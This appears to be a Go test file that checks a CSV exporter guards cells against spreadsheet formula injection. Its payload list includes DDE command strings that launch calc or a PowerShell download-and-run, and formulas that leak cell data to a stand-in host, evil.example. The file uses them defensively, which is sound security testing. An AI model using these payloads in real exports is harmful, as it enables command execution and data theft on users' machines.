package csv

import (
	"fmt"
	"strings"
	"testing"

	"go.mongodb.org/mongo-driver/v2/bson"
	"pgregory.net/rapid"

	"github.com/egress-io/egress/internal/users"
)

// injections are cells that make a spreadsheet run something: OWASP's examples of CSV injection,
// and other known payloads.
var injections = []string{
	`=1+1`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "\n=1+1", `＝1+1`, `＋1+1`, `－1+1`, `＠SUM(1+1)`, "\x00=1+1",
	`=cmd|' /C calc'!A0`, `=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example?leak="&A1,"click")`, `=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")`,
	`=WEBSERVICE("http://evil.example/"&A1)`, `+DDE("cmd";"/C calc";"x")`, `=rundll32|'URL.dll,OpenURL calc.exe'!A`, `='file:///etc/passwd'#$passwd.A1`,
	"=1+1\";=1+1", `=1+1";=1+1`, `"=1+1`, `",=1+1,"`, "x\n=1+1", "x,=1+1", `x";=1+1;"`, `'=1+1`, `''=1+1`, ` =1+1`,
	`x;=1+1`, "x\t=1+1", `x|=1+1`, "x\r\n=1+1", `x; =1+1`, `x;"=1+1"`, `x;""=1+1`, "x;\u00A0=1+1", `x;"`, `a,b;`, "line\n", `x;'=1`, `x;''=1`,
}

// No injection runs, wherever in a row it is, and RemoveGuard returns the original text.
func TestGuardAgainstInjections(t *testing.T) {
	t.Parallel()
	for _, payload := range injections {
		for _, neighbor := range []string{"plain", "with, comma", payload} {
			row := []string{neighbor, payload, neighbor, payload}
			line := AppendRecord(AppendRecord(nil, row), []string{"next", "row"})
			checkNoFormula(t, string(line))
			records, err := parse(line)
			if err != nil || len(records) != 2 || len(records[0]) != len(row) {
				t.Fatalf("%q makes the row %q (%v)", payload, records, err)
			}
			for i, cell := range records[0] {
				if RemoveGuard(cell) != row[i] {
					t.Errorf("%q is encoded as %q and is unguarded to %q", row[i], cell, RemoveGuard(cell))
				}
			}
		}
	}
}

// Guard marks appear exactly where a formula could start.
func TestGuardMarks(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"": "", "plain": "plain", "=1": "'=1", "'": "''", "''": "'''", " =1": "' =1", `"=1`: `'"=1`, "\x00": "'\x00", "\a=1": "'\a=1", " x": " x",
		"x;=1": "x;'=1", "x;'=1": "x;''=1", "x; =1": "x;' =1", "x; '=1": "x; '=1", "x;＝1": "x;'＝1", "x;\u3000－1": "x;'\u3000－1", "x;\u200B@": "x;'\u200B@",
		"x;;=1": "x;;'=1", ";": ";", "x;": "x;", "x;y": "x;y", "x=1": "x=1", "a|b, c; d\te": "a|b, c; d\te", "Lee, Jr.": "Lee, Jr.", "x;é": "x;é", "x;＃": "x;＃",
		`x,"=1"`: `x,'"=1"`, `["a","-b"]`: `["a",'"-b"]`, `{"a":1,"b":-2}`: `{"a":1,"b":-2}`, `[1,-2]`: `[1,'-2]`,
		"x;\t=1": "x;'\t'=1", "x\t\t=1": "x\t\t'=1", "x\t\"\t": "x\t'\"\t'", "x\n\ty": "x\n'\ty", "\t": "'\t", "x;\r=1": "x;'\r'=1",
		"two\r\nlines": "two\r\nlines", "x,\r\ny": "x,\r\ny", "x\r\n\r\ny": "x\r\n\r\ny", "x\n\ny": "x\n\ny", "x\r\n-y": "x\r\n'-y", "x\r'\ny": "x\r''\ny",
		"a,": "a,", "a,b;": "a,b;'", `x;"`: `x;'"`, "x\n": "x\n'", "x;\r": "x;'\r'", " x;": " x;'",
	} {
		if got := Cells(AppendRecord(nil, []string{"x", text}))[0][1]; got != want {
			t.Errorf("%q is encoded as %q, want %q", text, got, want)
		}
		if got := RemoveGuard(want); got != text {
			t.Errorf("RemoveGuard(%q) is %q, want %q", want, got, text)
		}
		if got := string((&Encoder{}).text(nil, []byte(text))); strings.Count(got, "'") != strings.Count(text, "'") {
			t.Errorf("rfc4180: %q is encoded as %q", text, got)
		}
	}
}

// Typed values that a spreadsheet reads as numbers get no mark; others that begin with a sign do.
func TestGuardOfTypedValues(t *testing.T) {
	t.Parallel()
	for want, v := range map[string]any{
		"-7": int32(-7), "-0.5": -0.5, "-1.5": decimal("-1.5"), "'-Infinity": decimal("-Infinity"), "NaN": decimal("NaN"),
		"'+010000-01-01T00:00:00.000Z": bson.DateTime(253_402_300_800_000), "'-000001-12-31T23:59:59.999Z": bson.DateTime(-62_167_219_200_001),
		"2026-11-23T08:31:28.000Z": bson.DateTime(1_795_422_688_000),
	} {
		if got, _ := attributeCell(t, spreadsheet(allGroups), users.Text, v); got != want {
			t.Errorf("%v became %q, want %q", v, got, want)
		}
		if got, _ := attributeCell(t, allGroups, users.Text, v); got != strings.TrimPrefix(want, "'") {
			t.Errorf("rfc4180: %v became %q", v, got)
		}
	}
}

// Every combination of separator, formula character, position and quoting: none runs, and
// RemoveGuard returns the original text.
func TestGuardOfEveryCombination(t *testing.T) {
	t.Parallel()
	var texts []string
	for _, sep := range []string{"", ",", ";", "\t", "|", "\n", "\r", "\r\n"} {
		for _, char := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "\x00", "'", "＝", "＋", "－", "＠"} {
			for _, between := range []string{"", " ", `"`, `""`, `"""`, ` " `, "\u00A0", "'", "\v"} {
				for _, form := range []string{"%s1", "x%s1", "%s", "x%s", "x%s1,y", `x"%s1`, `"x%s"`, " x%s1 ", "x;%s;", "'%s1"} {
					texts = append(texts, fmt.Sprintf(form, sep+between+char))
				}
			}
		}
	}
	for len(texts) > 0 {
		row := texts[:min(len(texts), 3)] // first, middle and last cell
		texts = texts[len(row):]
		file := AppendRecord(nil, row)
		checkNoFormula(t, string(file)+"next,row\r\n")
		records, err := parse(file)
		if err != nil || len(records) != 1 {
			t.Fatalf("%q: %q, %v", file, records, err)
		}
		for i, cell := range records[0] {
			if RemoveGuard(cell) != row[i] {
				t.Fatalf("%q is encoded as %q and is unguarded to %q", row[i], cell, RemoveGuard(cell))
			}
		}
	}
}

// A whole file with hostile header, stores, products, accounts, attributes and profiles.
func TestNoCellIsFormula(t *testing.T) {
	t.Parallel()
	hostile := rapid.StringMatching("[-=+@'\t\r\n,;| \"a\\x00＝\u00A0]{0,9}")
	rapid.Check(t, func(t *rapid.T) {
		text := func(name string) string { return hostile.Draw(t, name) }
		app := "a" + strings.ReplaceAll(text("app"), "\x00", "")
		def := spreadsheet(allGroups)
		columns := Columns(def, testSchema[:2], users.Registry{ForeignSystems: []string{"crm" + text("system")}, AppIDs: []string{app}})
		user := bson.D{
			{Key: "_id", Value: "u" + text("id")},
			{Key: "user_store_id", Value: "s"},
			{Key: "identifiers", Value: bson.D{{Key: "email_address", Value: text("email")}}},
			{Key: "attributes", Value: bson.D{{Key: "first_name", Value: text("name")}, {Key: "surname", Value: bson.A{text("list"), text("list")}}}},
			{Key: "extended_profiles", Value: bson.D{{Key: users.EscapeAppID(app), Value: text("profile")}}},
			{Key: "grants", Value: bson.A{bson.D{{Key: "grantId", Value: text("grant")}, {Key: "product_id", Value: "p"}, {Key: "account_id", Value: "c"}}}},
		}
		raw, err := bson.Marshal(user)
		if err != nil {
			t.Fatal(err)
		}
		labels := Labels{Stores: map[string]string{"s": text("store")}, Products: map[string]string{"p": text("product")}}
		account := text("account")
		e := mustNew(Options{Definition: def, Columns: columns, Labels: labels})
		file := e.Header(nil)
		for range 2 {
			row, _, err := e.Append(nil, raw)
			if err != nil {
				t.Fatal(err)
			}
			e.SetNames(e.UnknownAccounts(), map[string]string{"c": account})
			file = e.FillNames(file, row, 0, len(row))
			e.Reset()
		}
		checkNoFormula(t, string(file))
		records, err := parse(file[len(bom):])
		if err != nil || len(records) != 3 {
			t.Fatalf("%q: %v", file, err)
		}
		for i, c := range columns {
			cell := RemoveGuard(records[2][i])
			want := map[string]string{
				"user_store": labels.Stores["s"], "grant.product": labels.Products["p"], "grant.account": account, "attributes.first_name": user[3].Value.(bson.D)[0].Value.(string),
			}[c.Name]
			if RemoveGuard(records[0][i]) != c.Name || want != "" && cell != want {
				t.Fatalf("%s: %q, want %q", c.Name, cell, want)
			}
		}
	})
}
